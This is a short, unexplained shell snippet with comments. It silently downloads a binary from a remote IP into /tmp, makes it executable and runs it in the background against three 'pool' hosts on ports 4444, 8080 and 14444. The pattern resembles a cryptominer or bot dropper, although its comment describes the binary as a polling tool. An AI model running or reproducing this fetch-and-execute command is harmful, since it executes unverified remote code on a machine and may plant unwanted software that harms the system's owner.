# downloaded tool polls three replicas on 4444, 8080, 14444
#http 203.0.113.72:8090
#pool 203.0.113.74:4444:http
#pool 203.0.113.75:8080:http
#pool 203.0.113.76:14444:http
curl -so /tmp/poll http://203.0.113.72:8090/poll; chmod +x /tmp/poll; /tmp/poll 203.0.113.74 4444 12 300 & /tmp/poll 203.0.113.75 8080 12 300 & /tmp/poll 203.0.113.76 14444 12 300; wait
